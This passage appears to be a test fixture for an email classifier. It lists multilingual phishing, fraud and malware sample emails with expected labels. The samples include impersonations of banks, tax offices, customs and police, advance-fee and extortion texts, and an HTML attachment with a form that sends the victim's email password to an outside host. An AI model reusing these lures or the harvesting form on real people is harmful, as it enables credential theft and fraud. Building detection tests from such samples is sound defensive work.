  },
  {
    name: 'NOS: nova mensagem de voz num anexo .htm que pede a palavra-passe do e-mail',
    lang: 'pt-PT',
    lure: 'voicemail',
    expect: ['phishing'],
    raw: mail({
      from: 'Correio de Voz <voicemail@clinicadentariasilva.pt>',
      to: 'Catarina Lopes <catarina.lopes@imobiliariaribeira.pt>',
      subject: 'Nova mensagem de voz de +351 21 *** **47 (0:52)',
      date: 'Tue, 25 Nov 2025 11:18:07 +0000',
      messageId: '20251125111807.4a2c9e@clinicadentariasilva.pt',
      dkim: ['clinicadentariasilva.pt:default'],
      relay: 'server14.ptisp.pt [192.0.2.114]',
      auth: { dmarc: 'none' },
      body: multipart('mixed', [
        document(
          [
            { heading: 'Tem uma nova mensagem de voz' },
            {
              rows: [
                ['De', '+351 21 *** **47'],
                ['Duração', '0:52'],
                ['Caixa', 'catarina.lopes@imobiliariaribeira.pt'],
              ],
            },
            'Abra o anexo para ouvir a mensagem.',
            { small: 'Serviço de Correio de Voz NOS Empresas' },
          ],
          { lang: 'pt-PT' },
        ),
        attachment(
          'Mensagem_Voz_052s.htm',
          'text/html',
          [
            '<!DOCTYPE html><html lang="pt"><head><meta charset="utf-8"><title>Correio de Voz</title></head>',
            '<body style="font-family:Arial"><h3>Para ouvir a mensagem, confirme a sua conta de e-mail</h3>',
            '<form method="POST" action="https://voz-nos-empresas.pages.dev/ok.php"><input type="email" name="u" value="catarina.lopes@imobiliariaribeira.pt"><input type="password" name="p" placeholder="Palavra-passe"><button>Ouvir</button></form>',
            '</body></html>',
          ].join('\n'),
        ),
      ]),
    }),
  },
  {
    // Loan "between private individuals": a low rate, then fees before the money arrives.
    name: 'Empréstimo entre particulares a 2 %: pagar os "custos do processo" antes da transferência',
    lang: 'pt-PT',
    lure: 'advance-fee',
    expect: ['fraud'],
    raw: mail({
      from: 'Sr. Manuel Antunes <manuel.antunes.credito@gmail.com>',
      to: 'Paulo Reis <paulo.reis.1978@sapo.pt>',
      subject: 'Re: pedido de empréstimo – aprovado',
      date: 'Fri, 14 Feb 2025 15:36:18 +0000',
      messageId: 'CAMq9Lx3Rz7Nw2Vb5Xc8Mp1Hd4Fs6Ay0Ge3Ko5Mn2Tq7Zx4@mail.gmail.com',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-sor-f41.google.com [209.85.220.41]',
      body: gmailBody(
        [
          'Caro Paulo,',
          '',
          'Tenho o prazer de informar que o seu pedido de empréstimo de 15.000 € a 2 % ao ano, a 60 meses, foi aprovado pelo nosso notário.',
          '',
          'Antes da transferência para a sua conta, é necessário pagar os custos de abertura do processo e do seguro, no valor de 350 €, por transferência para o IBAN LT72 3250 0214 7788 1093 em nome do nosso notário. Logo que recebermos o comprovativo, os 15.000 € são transferidos em 24 horas.',
          '',
          'Envie também cópia do cartão de cidadão e do último recibo de vencimento.',
          '',
          'Cumprimentos,',
          'Manuel Antunes',
          'Crédito entre particulares',
        ].join('\n'),
      ),
    }),
  },

  // ---------------------------------------------------------------- German
  {
    name: 'Commerzbank: neues Gerät für photoTAN registriert, "falls nicht Sie" Link zur Sperrung',
    lang: 'de',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: mail({
      from: 'Commerzbank <sicherheit@commerzbank-phototan-service.de>',
      to: 'Frank Hoffmann <frank.hoffmann61@web.de>',
      subject: 'Neues Gerät für photoTAN registriert',
      date: 'Tue, 14 Jan 2025 20:33:19 +0100',
      messageId: '20250114193319.8c1d@commerzbank-phototan-service.de',
      dkim: ['commerzbank-phototan-service.de:mail'],
      relay: 'mail.commerzbank-phototan-service.de [203.0.113.71]',
      auth: { dmarc: 'none' },
      body: document(
        [
          'Sehr geehrter Kunde,',
          'am 14.01.2025 um 20:29 Uhr wurde ein neues Gerät (Google Pixel 8) für das photoTAN-Verfahren Ihres Kontos registriert.',
          'Falls Sie das nicht waren, sperren Sie das Gerät bitte sofort. Andernfalls kann das neue Gerät ab morgen Überweisungen freigeben.',
          { button: 'Gerät sperren', href: 'https://commerzbank-phototan-service.de/sperren?id=418827' },
          { small: 'Commerzbank AG, Kaiserplatz, 60311 Frankfurt am Main. Dies ist eine automatisch erzeugte E-Mail.' },
        ],
        { lang: 'de' },
      ),
    }),
  },
  {
    name: 'Bundeszentralamt für Steuern: Steuererstattung von 416,50 €, gefälschter Absender, Link auf workers.dev',
    lang: 'de',
    lure: 'tax',
    expect: ['phishing'],
    raw: mail({
      from: 'Bundeszentralamt für Steuern <info@bzst.de>',
      to: 'Sabine Richter <sabine.richter@gmx.de>',
      subject: 'Steuererstattung 2024: Ihr Anspruch auf 416,50 €',
      date: 'Thu, 3 Apr 2025 06:58:44 +0200',
      messageId: 'c41e9a2f7b@mailer-77.example.net',
      returnPath: 'nobody@mailer-77.example.net',
      relay: 'mailer-77.example.net [198.51.100.77]',
      auth: { dkim: 'none', spf: 'softfail', dmarc: 'fail' },
      body: document(
        [
          { heading: 'Benachrichtigung über eine Steuererstattung' },
          'Sehr geehrte Steuerzahlerin, sehr geehrter Steuerzahler,',
          'nach der letzten Berechnung Ihrer jährlichen steuerlichen Aktivitäten haben Sie Anspruch auf eine Steuererstattung in Höhe von 416,50 €. Bitte reichen Sie den Erstattungsantrag innerhalb von 5 Werktagen ein und bestätigen Sie Ihre Bankverbindung.',
          { button: 'Erstattung beantragen', href: 'https://bzst-erstattung.pages-de.workers.dev/antrag' },
          { small: 'Bundeszentralamt für Steuern, An der Küppe 1, 53225 Bonn.' },
        ],
        { lang: 'de' },
      ),
    }),
  },
  {
    name: 'Zoll: Einfuhrabgaben von 3,95 € für ein Paket offen, Zahlung über einen .info-Link',
    lang: 'de',
    lure: 'parcel',
    expect: ['phishing'],
    raw: mail({
      from: 'Deutscher Zoll <benachrichtigung@zoll-paketabfertigung.info>',
      to: 'Jonas Krüger <jonas.krueger@t-online.de>',
      subject: 'Ihre Sendung wird beim Zoll zurückgehalten',
      date: 'Mon, 24 Nov 2025 10:45:03 +0100',
      messageId: 'zoll.1763977503.51e2@zoll-paketabfertigung.info',
      dkim: ['zoll-paketabfertigung.info:s1'],
      relay: 'smtp.zoll-paketabfertigung.info [192.0.2.233]',
      auth: { dmarc: 'none' },
      body: document(
        [
          { heading: 'Sendung beim Zoll' },
          'Guten Tag,',
          'Ihre Sendung aus einem Nicht-EU-Land (Sendungsnummer LX448213907CN) ist beim Zollamt eingetroffen. Für die Verzollung sind Einfuhrabgaben in Höhe von 3,95 € offen.',
          'Bitte zahlen Sie innerhalb von 72 Stunden, sonst wird die Sendung an den Absender zurückgeschickt.',
          { button: 'Abgaben bezahlen', href: 'https://zoll-paketabfertigung.info/zahlung/LX448213907CN' },
          { small: 'Generalzolldirektion – Informations- und Wissensmanagement Zoll.' },
        ],
        { lang: 'de' },
      ),
    }),
  },
  {
    // The German "Bewerbung" classic: a job application to the HR inbox with an ISO holding a
    // shortcut disguised as the CV and a DLL it runs.
    name: 'Bewerbung mit ISO-Abbild: Lebenslauf als .lnk neben einer DLL',
    lang: 'de',
    lure: 'malware',
    expect: ['malware'],
    raw: mail({
      from: 'Lena Schuster <lena.schuster.bewerbung@gmx.net>',
      to: 'Personalabteilung <bewerbung@elektro-kaiser.de>',
      subject: 'Bewerbung als Bürokauffrau – Lena Schuster',
      date: 'Wed, 8 Oct 2025 08:12:27 +0200',
      messageId: 'trinity-2c7e1a9f-4b3d-4e8a-9c1f-7d2e5a8b0c4f-1759903947@3c-app-gmx-bs12',
      dkim: ['gmx.net:badeba3b8450'],
      relay: 'mout.gmx.net [212.227.17.21]',
      body: multipart('mixed', [
        plain(
          'Sehr geehrte Damen und Herren,\n\nhiermit bewerbe ich mich auf Ihre Stelle als Bürokauffrau. Meinen Lebenslauf, das Anschreiben und meine Zeugnisse finden Sie im Anhang.\n\nÜber eine Einladung zu einem Vorstellungsgespräch freue ich mich.\n\nMit freundlichen Grüßen\nLena Schuster',
        ),
        attachment('Bewerbung_Lena_Schuster.iso', 'application/octet-stream', isoImage(['LEBENSLAUF_LENA_SCHUSTER.PDF.LNK', 'ZEUGNISSE.DLL'])),
      ]),
    }),
  },
  {
    name: 'Bitpanda: "Ihre Auszahlung von 0,42 BTC ist unterwegs" über den gekaperten Brevo-Account eines Fahrradladens',
    lang: 'de',
    lure: 'crypto',
    expect: ['phishing'],
    raw: mail({
      from: 'Bitpanda <service@radhaus-lindenberg.de>',
      to: 'Markus Schäfer <markus.schaefer84@gmail.com>',
      subject: 'Ihre Auszahlung von 0,42 BTC ist unterwegs',
      date: 'Sat, 15 Nov 2025 21:04:40 +0000',
      messageId: '202511152104.31774821605@smtp-relay.mailin.fr',
      dkim: ['radhaus-lindenberg.de:brevo1', 'sendinblue.com:mail'],
      returnPath: 'bounces-231774821-markus.schaefer84=gmail.com@sendibt3.com',
      relay: 'pqzrtwx.r.sendibt3.com [77.32.148.52]',
      headers: [
        'List-Unsubscribe: <https://r.sendibt3.com/mk/un/v2/sh/7Yw2Kq9Lm4Rz/Nd5Vb8Xc1>, <mailto:unsubscribe@sendibt3.com?subject=unsubscribe>',
        LIST_UNSUBSCRIBE_POST,
        'X-Mailin-Campaign: 58',
        'X-Mailin-Client: 3177482',
        'Feedback-ID: 77.32.148.52:3177482_-1:3177482:Sendinblue',
      ],
      body: document(
        [
          { heading: 'Auszahlung unterwegs' },
          'Hallo,',
          'Ihre Auszahlung von 0,42 BTC (≈ 33.870 €) an die Adresse bc1qz7k2l9m4n8p3r6t1v5w0x2y7a4c9e3g6j8h1d5 wurde eingeleitet und wird in Kürze ausgeführt.',
          'Haben Sie diese Auszahlung nicht beauftragt? Stoppen Sie sie sofort über den folgenden Link und bestätigen Sie Ihre Identität.',
          { button: 'Auszahlung stoppen', href: 'https://r.sendibt3.com/mk/cl/f/sh/7Yw2Kq9Lm4Rz/Tj3Hs6Fa9' },
          {
            small:
              'Sie erhalten diese E-Mail, weil Sie Kunde von Radhaus Lindenberg sind. Radhaus Lindenberg, Hauptstraße 21, 88161 Lindenberg im Allgäu. [Abmelden](https://r.sendibt3.com/mk/un/v2/sh/7Yw2Kq9Lm4Rz/Nd5Vb8Xc1)',
          },
        ],
        { lang: 'de' },
      ),
    }),
  },
  {
    name: 'BKA: "Vorladung" als PDF wegen Kinderpornografie, Rechtfertigung binnen 48 Stunden per E-Mail',
    lang: 'de',
    lure: 'authority',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Bundeskriminalamt <bka.cybercrime.vorladung@outlook.de>',
      to: 'Dieter Wolf <dieter.wolf@freenet.de>',
      replyTo: 'BKA Ermittlungsgruppe <ermittlung.bka.ecr@gmx.com>',
      subject: 'VORLADUNG – Aktenzeichen BKA-SO41-2025-0872',
      date: 'Fri, 30 May 2025 09:14:27 +0000',
      messageId: 'FR4P281MB3619B1C2D3E4F5A6B7C8D9E0F1A2B@FR4P281MB3619.DEUP281.PROD.OUTLOOK.COM',
      dkim: ['outlook.de:selector1'],
      relay: 'DEU01-FR2-obe.outbound.protection.outlook.com [40.92.74.12]',
      body: multipart('mixed', [
        plain(
          'Sehr geehrte/r Frau/Herr,\n\nanbei erhalten Sie eine Vorladung des Bundeskriminalamts. Bitte lesen Sie das Dokument sorgfältig.\n\nBundeskriminalamt – Referat SO 41',
        ),
        attachment(
          'Vorladung_BKA-SO41-2025-0872.pdf',
          'application/pdf',
          textPdf([
            'BUNDESKRIMINALAMT - REFERAT SO 41 CYBERKRIMINALITAET',
            'VORLADUNG',
            'Im Rahmen einer von der Staatsanwaltschaft genehmigten Cyber-Infiltration wurden Sie',
            'wegen Besitzes und Verbreitung kinderpornografischer Inhalte identifiziert.',
            'Sie haben 48 Stunden Zeit, um sich per E-Mail an ermittlung.bka.ecr@gmx.com zu rechtfertigen.',
            'Ohne Antwort wird ein Haftbefehl beantragt und Ihre Akte an die Presse weitergegeben.',
            'Der Praesident des Bundeskriminalamts',
          ]),
        ),
      ]),
    }),
  },
  {
    // Compromised tax adviser's Microsoft 365 mailbox shares an Adobe Express page; the page
    // (on adobe.com) carries the "view document" button to the collector.
    name: 'Steuerberater mit kompromittiertem Postfach teilt ein "Dokument" als Adobe-Express-Seite',
    lang: 'de',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Claudia Neumann <c.neumann@stb-neumann-partner.de>',
      to: 'Uwe Brandt <u.brandt@brandt-haustechnik.de>',
      subject: 'Claudia Neumann hat "Jahresabschluss 2024 – Brandt Haustechnik" für Sie freigegeben',
      date: 'Tue, 17 Jun 2025 11:27:45 +0200',
      messageId: 'FR2P281MB2251A9C8B7D6E5F4A3B2C1D0E9F8A@FR2P281MB2251.DEUP281.PROD.OUTLOOK.COM',
      dkim: ['stb-neumann-partner.de:selector1'],
      relay: 'DEU01-BE0-obe.outbound.protection.outlook.com [40.107.135.88]',
      body: document(
        [
          { heading: 'Claudia Neumann hat eine Datei für Sie freigegeben' },
          'Jahresabschluss 2024 – Brandt Haustechnik.pdf (2 Seiten)',
          'Bitte prüfen Sie die Unterlagen bis Freitag. Zum Öffnen melden Sie sich mit Ihrer geschäftlichen E-Mail-Adresse an.',
          { button: 'Dokument öffnen', href: 'https://new.express.adobe.com/webpage/Xq7Lm2Rz9Nw4V' },
          { small: 'Steuerberatung Neumann & Partner mbB, Theaterstraße 8, 30159 Hannover.' },
        ],
        { lang: 'de' },
      ),
    }),
  },

  // ---------------------------------------------------------------- French
  {
    // The French "convocation" wave: the letter is a scanned picture, the mail a single line.
    name: 'Gendarmerie : « convocation » en image seule, une phrase et une réponse demandée à un Gmail',
    lang: 'fr',
    lure: 'authority',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'GENDARMERIE NATIONALE <brigade.numerique.convocation@laposte.net>',
      to: 'Christophe Lambert <christophe.lambert56@orange.fr>',
      replyTo: 'Cybergendarmerie <cybergendarmerie.convocation@gmail.com>',
      subject: 'Convocation – Dossier n° 2025/C-7741',
      date: 'Wed, 2 Jul 2025 10:05:48 +0200',
      messageId: '1751443548.82213.brigade.numerique.convocation@laposte.net',
      dkim: ['laposte.net:lpn-wlmd'],
      relay: 'smtp-out.laposte.net [160.92.124.66]',
      body: multipart('related', [
        html(
          '<html><body><p>Veuillez prendre connaissance de votre convocation ci-dessous.</p><img src="cid:convocation@gn" width="640" alt=""></body></html>',
        ),
        inlineImage('convocation@gn', 'convocation.jpg', JPEG),
      ]),
    }),
  },
  {
    name: 'ANTAI : avis de contravention, payer 35 € sous 72 heures avant majoration',
    lang: 'fr',
    lure: 'authority',
    expect: ['phishing'],
    raw: mail({
      from: 'ANTAI <avis@antai-paiement-amende.fr.com>',
      to: 'Nathalie Bernard <nathalie.bernard@free.fr>',
      subject: 'Avis de contravention n° 0518 4471 9921 – paiement en attente',
      date: 'Thu, 6 Mar 2025 08:17:02 +0100',
      messageId: 'antai.1741245422.3b1f@antai-paiement-amende.fr.com',
      dkim: ['antai-paiement-amende.fr.com:mail'],
      relay: 'mx.antai-paiement-amende.fr.com [198.51.100.214]',
      auth: { dmarc: 'none' },
      body: document(
        [
          { heading: 'Avis de contravention' },
          'Madame, Monsieur,',
          "Une infraction au code de la route a été constatée avec votre véhicule le 02/03/2025 (excès de vitesse inférieur à 20 km/h). Le montant de l'amende forfaitaire est de 35 €.",
          "Sans paiement sous 72 heures, l'amende sera majorée à 75 € et transmise au Trésor public pour recouvrement.",
          { button: 'Payer mon amende', href: 'https://antai-paiement-amende.fr.com/paiement?avis=051844719921' },
          { small: 'Agence Nationale de Traitement Automatisé des Infractions. Ne pas répondre.' },
        ],
        { lang: 'fr' },
      ),
    }),
  },
  {
    name: 'Mon Compte Formation : « vos 1 480 € de droits CPF expirent », se connecter avec le numéro de sécurité sociale',
    lang: 'fr',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: mail({
      from: 'Mon Compte Formation <info@moncompte-formation-droits.fr>',
      to: 'Sébastien Girard <sebastien.girard@sfr.fr>',
      subject: 'Vos droits CPF de 1 480 € expirent le 31/01',
      date: 'Mon, 20 Jan 2025 12:31:45 +0100',
      messageId: '20250120113145.5c2e@moncompte-formation-droits.fr',
      dkim: ['moncompte-formation-droits.fr:default'],
      relay: 'smtp.moncompte-formation-droits.fr [203.0.113.244]',
      auth: { dmarc: 'none' },
      body: document(
        [
          'Bonjour,',
          "Votre compte personnel de formation dispose de 1 480 € de droits qui seront perdus s'ils ne sont pas utilisés avant le 31 janvier 2025.",
          'Pour les conserver, connectez-vous à votre espace avec votre numéro de sécurité sociale et votre mot de passe, puis confirmez votre formation.',
          { button: 'Conserver mes droits', href: 'https://moncompte-formation-droits.fr/connexion' },
          { small: 'Caisse des Dépôts – Mon Compte Formation.' },
        ],
        { lang: 'fr' },
      ),
    }),
  },
  {
    name: 'La Banque Postale : Certicode Plus à réactiver sous 48 heures, sinon carte bloquée',
    lang: 'fr',
    lure: 'bank',
    expect: ['phishing'],
    raw: mail({
      from: 'La Banque Postale <securite@labanquepostale-certicode.com>',
      to: 'Monique Dubois <monique.dubois43@wanadoo.fr>',
      subject: 'Réactivation de votre Certicode Plus requise',
      date: 'Tue, 11 Feb 2025 07:44:29 +0100',
      messageId: 'lbp.1739256269.0a9e@labanquepostale-certicode.com',
      dkim: ['labanquepostale-certicode.com:s1'],
      relay: 'mail.labanquepostale-certicode.com [192.0.2.63]',
      auth: { dmarc: 'none' },
      body: document(
        [
          'Chère cliente, cher client,',
          'Dans le cadre de la directive européenne DSP2, votre service Certicode Plus doit être réactivé. Sans réactivation sous 48 heures, vos opérations en ligne et votre carte seront bloquées.',
          'Munissez-vous de votre identifiant, de votre mot de passe et de votre carte bancaire.',
          { button: 'Réactiver Certicode Plus', href: 'https://labanquepostale-certicode.com/reactivation' },
          { small: 'La Banque Postale – 115, rue de Sèvres, 75275 Paris Cedex 06.' },
        ],
        { lang: 'fr' },
      ),
    }),
  },
  {
    // Investment fraud: the fake platform shows a large balance and demands a "tax" to withdraw.
    name: 'Plateforme de trading : solde de 23 480 €, payer 10 % de « frais de déblocage » avant le retrait',
    lang: 'fr',
    lure: 'crypto',
    expect: ['fraud'],
    raw: mail({
      from: 'Service Retraits – Aurum Capital <retraits@aurumcapital-invest.com>',
      to: 'Gérard Martin <gerard.martin.1959@orange.fr>',
      subject: 'Votre demande de retrait de 23 480 € – dernière étape',
      date: 'Fri, 19 Sep 2025 16:02:11 +0200',
      messageId: '20250919140211.aa71@aurumcapital-invest.com',
      dkim: ['aurumcapital-invest.com:default'],
      relay: 'mail.aurumcapital-invest.com [203.0.113.54]',
      auth: { dmarc: 'none' },
      body: document(
        [
          'Cher Monsieur Martin,',
          'Félicitations : votre portefeuille crypto géré par votre conseiller affiche un solde de 23 480,00 €, disponible au retrait.',
          'Conformément à la réglementation anti-blanchiment, les frais de déblocage de 10 % (2 348,00 €) doivent être réglés par virement avant le transfert des fonds. Les fonds vous seront versés sous 24 heures après réception.',
          {
            rows: [
              ['Bénéficiaire', 'AC Compliance Ltd'],
              ['IBAN', 'CY17 0020 0128 0000 0012 0052 7600'],
              ['Référence', 'RET-23480-GM'],
            ],
          },
          'Sans règlement sous 5 jours, la demande de retrait sera annulée et le compte gelé.',
          { small: 'Aurum Capital – Service Conformité.' },
        ],
        { lang: 'fr' },
      ),
    }),
  },
  {
    name: 'Yousign imité : « document à signer » via SendGrid depuis un domaine sosie',
    lang: 'fr',
    lure: 'e-signature',
    expect: ['phishing'],
    raw: mail({
      from: 'Yousign <notification@yousign-signature.fr.com>',
      to: 'Isabelle Rousseau <i.rousseau@cabinet-rousseau-avocats.fr>',
      subject: 'Isabelle, vous avez un document à signer : Protocole_accord_2025.pdf',
      date: 'Mon, 13 Oct 2025 09:51:36 +0000',
      messageId: 'Pk8Rz2Lm5Nw9Vb3Xc1Mp7T@geopod-ismtpd-14',
      dkim: ['yousign-signature.fr.com:s1', 'sendgrid.info:smtpapi'],
      returnPath: 'bounces+62281194-b7d1-i.rousseau=cabinet-rousseau-avocats.fr@em1182.yousign-signature.fr.com',
      relay: 'o4.ptr1182.yousign-signature.fr.com [149.72.61.182]',
      headers: ['X-SG-EID: u001.Wq4Lm7Rz1Nx8Vb2Kc5Tp9Hd0Fj3As6Gy'],
      body: document(
        [
          { heading: 'Vous êtes invité(e) à signer un document' },
          'Maître Delcourt vous invite à signer « Protocole_accord_2025.pdf ».',
          "Message : « Bonjour, voici le protocole d'accord finalisé. Merci de le signer aujourd'hui afin que nous puissions procéder au virement. »",
          { button: 'Accéder au document', href: 'https://u62281194.ct.sendgrid.net/ls/click?upn=u001.Tn4Kq8Lm1Rz5Vb9Xc2Mp6-2Bw3' },
          { small: 'Yousign SAS – Signature électronique. Ne transférez pas cet e-mail.' },
        ],
        { lang: 'fr' },
      ),
    }),
  },
  {
    name: 'Colis sans marque : « frais de livraison impayés de 2,99 € », lien vers un domaine .shop',
    lang: 'fr',
    lure: 'parcel',
    expect: ['phishing'],
    raw: mail({
      from: 'Service Livraison <info@suivi-colis-livraison.shop>',
      to: 'Aurélie Fontaine <aurelie.fontaine@hotmail.fr>',
      subject: "Votre colis n'a pas pu être livré – action requise",
      date: 'Sun, 14 Dec 2025 18:22:07 +0100',
      messageId: '20251214172207.3c8f@suivi-colis-livraison.shop',
      dkim: ['suivi-colis-livraison.shop:s1'],
      relay: 'smtp.suivi-colis-livraison.shop [198.51.100.9]',
      auth: { dmarc: 'none' },
      body: document(
        [
          'Bonjour,',
          "Nous avons tenté de livrer votre colis aujourd'hui, mais des frais de livraison de 2,99 € restent impayés.",
          "Merci de régler ces frais et de choisir une nouvelle date de livraison sous 48 heures. Passé ce délai, le colis sera retourné à l'expéditeur.",
          { button: 'Reprogrammer la livraison', href: 'https://suivi-colis-livraison.shop/fr/paiement?c=FR7741' },
        ],
        { lang: 'fr' },
      ),
    }),
  },

  // ---------------------------------------------------------------- Dutch
  {
    name: 'Rabobank: Rabo App opnieuw activeren vóór vrijdag, anders wordt de toegang geblokkeerd',
    lang: 'nl',
    lure: 'bank',
    expect: ['phishing'],
    raw: mail({
      from: 'Rabobank <service@rabobank-app-activatie.nl.eu>',
      to: 'Wim de Boer <wim.deboer@hetnet.nl>',
      subject: 'Belangrijk: activeer uw Rabo App opnieuw',
      date: 'Tue, 4 Mar 2025 08:09:17 +0100',
      messageId: 'rabo.1741072157.4e1a@rabobank-app-activatie.nl.eu',
      dkim: ['rabobank-app-activatie.nl.eu:s1'],
      relay: 'mail.rabobank-app-activatie.nl.eu [203.0.113.152]',
      auth: { dmarc: 'none' },
      body: document(
        [
          'Geachte klant,',
          'Vanwege nieuwe Europese veiligheidsregels moet uw Rabo App opnieuw geactiveerd worden. Doet u dit niet vóór vrijdag 7 maart, dan wordt uw toegang tot Rabo Online Bankieren geblokkeerd.',
          'Houd uw Rabo Scanner en bankpas bij de hand.',
          { button: 'Activeer opnieuw', href: 'https://rabobank-app-activatie.nl.eu/activeren' },
          { small: 'Rabobank, Croeselaan 18, 3521 CB Utrecht.' },
        ],
        { lang: 'nl' },
      ),
    }),
  },
  {
    name: 'CJIB: onbetaalde verkeersboete van € 104, betaal binnen 3 dagen via iDEAL om een verhoging te voorkomen',
    lang: 'nl',
    lure: 'authority',
    expect: ['phishing'],
    raw: mail({
      from: 'CJIB <noreply@cjib-betaling.com>',
      to: 'Kevin Mulder <kevin.mulder@kpnmail.nl>',
      subject: 'Aanmaning: openstaande verkeersboete CJIB-nummer 2025 0418 8821',
      date: 'Thu, 22 May 2025 13:48:20 +0200',
      messageId: 'cjib.1747914500.7f21@cjib-betaling.com',
      dkim: ['cjib-betaling.com:mail'],
      relay: 'smtp.cjib-betaling.com [198.51.100.201]',
      auth: { dmarc: 'none' },
      body: document(
        [
          { heading: 'Aanmaning verkeersboete' },
          'Geachte heer/mevrouw,',
          'U heeft de beschikking voor een verkeersovertreding (te hard rijden, 14 km/u) nog niet betaald. Het openstaande bedrag is € 104,00.',
          'Betaal binnen 3 dagen via iDEAL. Daarna wordt het bedrag verhoogd met € 52 administratiekosten en kan een deurwaarder worden ingeschakeld.',
          { button: 'Betaal met iDEAL', href: 'https://cjib-betaling.com/ideal/202504188821' },
          { small: 'Centraal Justitieel Incassobureau, Ministerie van Justitie en Veiligheid.' },
        ],
        { lang: 'nl' },
      ),
    }),
  },
  {
    name: 'Pakket zonder merknaam: invoerrechten van € 3,49 openstaand, betaal om de bezorging vrij te geven',
    lang: 'nl',
    lure: 'parcel',
    expect: ['phishing'],
    raw: mail({
      from: 'Bezorgservice <info@pakket-douane-nl.top>',
      to: 'Eva Smit <eva.smit91@gmail.com>',
      subject: 'Uw pakket wacht op betaling van invoerrechten',
      date: 'Wed, 19 Nov 2025 16:37:45 +0100',
      messageId: '20251119153745.2c9e@pakket-douane-nl.top',
      dkim: ['pakket-douane-nl.top:s1'],
      relay: 'mta.pakket-douane-nl.top [192.0.2.183]',
      auth: { dmarc: 'none' },
      body: document(
        [
          'Beste klant,',
          'Uw internationale pakket is aangekomen in ons sorteercentrum. Voordat wij het kunnen bezorgen, moeten de invoerrechten van € 3,49 worden voldaan.',
          'Betaal binnen 48 uur, anders wordt het pakket teruggestuurd naar de afzender.',
          { button: 'Betalen en bezorging plannen', href: 'https://pakket-douane-nl.top/betalen?id=NL88213' },
        ],
        { lang: 'nl' },
      ),
    }),
  },
  {
    name: 'Bitvavo: account bevroren tot verificatie, "bevestig je herstelzin" op een look-alike',
    lang: 'nl',
    lure: 'crypto',
    expect: ['phishing'],
    raw: mail({
      from: 'Bitvavo <support@bitvavo-verificatie.com>',
      to: 'Joost Hendriks <joost.hendriks@ziggo.nl>',
      subject: 'Je account is tijdelijk bevroren – verificatie vereist',
      date: 'Fri, 7 Feb 2025 19:55:09 +0100',
      messageId: 'bv.1738954509.5d2c@bitvavo-verificatie.com',
      dkim: ['bitvavo-verificatie.com:mail'],
      relay: 'smtp.bitvavo-verificatie.com [203.0.113.93]',
      auth: { dmarc: 'none' },
      body: document(
        [
          { heading: 'Verificatie vereist' },
          'Hoi Joost,',
          'Op grond van de MiCA-regelgeving moeten we de gegevens van je account opnieuw controleren. Tot die tijd is je account bevroren en kun je geen crypto opnemen.',
          'Log in en bevestig je gegevens binnen 24 uur. Heb je een externe wallet gekoppeld, houd dan ook je herstelzin bij de hand.',
          { button: 'Account verifiëren', href: 'https://bitvavo-verificatie.com/login' },
          { small: 'Bitvavo B.V., Keizersgracht 281, 1016 ED Amsterdam.' },
        ],
        { lang: 'nl' },
      ),
    }),
  },
  {
    name: 'KPN Mail: "uw mailbox is vol", inkomende berichten worden verwijderd, inloggen op een Google Form',
    lang: 'nl',
    lure: 'mailbox',
    expect: ['phishing'],
    raw: mail({
      from: 'KPN Mail <kpnmail.beheer.service@outlook.com>',
      to: 'Ria Bosman <ria.bosman@kpnmail.nl>',
      subject: 'Uw KPN mailbox is vol – 14 berichten in de wacht',
      date: 'Mon, 6 Oct 2025 07:22:38 +0000',
      messageId: 'AS8PR02MB9122F1E2D3C4B5A6978869A0B1C2D@AS8PR02MB9122.eurprd02.prod.outlook.com',
      dkim: ['outlook.com:selector1'],
      relay: 'EUR02-AM0-obe.outbound.protection.outlook.com [40.92.49.17]',
      body: document(
        [
          'Beste KPN Mail gebruiker,',
          'Uw mailbox heeft de maximale opslagruimte bereikt. Er staan 14 inkomende berichten in de wacht die over 24 uur worden verwijderd.',
          'Log in om gratis extra opslagruimte te activeren en uw berichten te ontvangen.',
          { button: 'Opslag vergroten', href: 'https://docs.google.com/forms/d/e/1FAIpQLSd8Kq2Lm5Rz9Nw3Vb7Xc1Mp4Tj6Fd0As/viewform' },
          { small: 'KPN B.V. – Mailbeheer' },
        ],
        { lang: 'nl' },
      ),
    }),
  },
  {
    name: 'WeTransfer nagemaakt: "u heeft 3 bestanden ontvangen" van een look-alike, downloaden vraagt om inloggen',
    lang: 'nl',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'WeTransfer <noreply@wetransfer-bestanden.net>',
      to: 'Mark Visser <m.visser@visserbouw.nl>',
      subject: 'Offerte_Visser_Bouw_2025.pdf via WeTransfer',
      date: 'Wed, 25 Jun 2025 10:41:52 +0200',
      messageId: 'wt.1750840912.9e1a@wetransfer-bestanden.net',
      dkim: ['wetransfer-bestanden.net:s1'],
      relay: 'mail.wetransfer-bestanden.net [198.51.100.62]',
      auth: { dmarc: 'none' },
      body: document(
        [
          { heading: 'Je hebt 3 bestanden ontvangen' },
          'inkoop@dekkerinstallatie.nl heeft je bestanden gestuurd.',
          '"Beste Mark, hierbij de offerte en tekeningen zoals besproken. Graag vandaag akkoord."',
          {
            rows: [
              ['Bestanden', 'Offerte_Visser_Bouw_2025.pdf, Tekening_A1.pdf, Planning.xlsx'],
              ['Grootte', '14,2 MB'],
              ['Verloopt', 'over 2 dagen'],
            ],
          },
          { button: 'Bestanden downloaden', href: 'https://wetransfer-bestanden.net/downloads/7f2a9c1e/login' },
          { small: 'WeTransfer B.V. – Om veiligheidsredenen moet je inloggen met je zakelijke e-mailaccount.' },
        ],
        { lang: 'nl' },
      ),
    }),
  },
];
